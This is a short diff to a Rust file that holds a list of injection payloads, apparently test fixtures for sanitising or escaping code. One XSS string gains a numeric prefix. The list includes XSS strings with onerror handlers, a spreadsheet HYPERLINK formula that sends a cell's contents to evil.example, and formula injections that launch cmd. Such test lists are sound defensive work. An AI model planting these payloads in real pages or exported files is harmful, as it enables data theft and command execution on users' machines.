@@ -45,7 +45,7 @@ pub const PAYLOADS: &[&str] = &[
     "]]><img src=x onerror=window.__xss=31>",
     "&lt;img src=x onerror=window.__xss=32&gt;",
     "<video><source onerror=\"window.__xss=33\"></video>",
-    "\u{2028}</script><img src=x onerror=window.__xss=34>",
+    "34\u{2028}</script><img src=x onerror=window.__xss=34>",
     "=HYPERLINK(\"https://evil.example/?\"&A1,\"35\")",
     "+SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
